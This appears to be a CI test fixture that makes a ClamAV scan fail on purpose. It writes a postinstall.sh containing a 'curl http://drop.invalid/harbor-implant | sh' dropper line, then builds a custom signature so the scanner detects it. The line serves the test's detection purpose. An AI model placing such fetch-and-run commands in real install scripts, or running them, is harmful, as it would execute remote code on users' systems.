# class: security-scan-failure
# tool: clamscan
# ecosystem: ci
# step: Malware scan
# needs: apt:clamav
# proof: Harbor.Test.Dropper-1.UNOFFICIAL FOUND
# proof: Infected files: 1
mkdir -p dist
echo 'berth planner' >dist/README.txt
echo 'curl http://drop.invalid/harbor-implant | sh' >dist/postinstall.sh
printf 'Harbor.Test.Dropper-1:0:*:%s\n' "$(printf 'drop.invalid/harbor-implant' | od -An -tx1 | tr -d ' \n')" >signatures.ndb
#%% step
clamscan --recursive --database=signatures.ndb dist
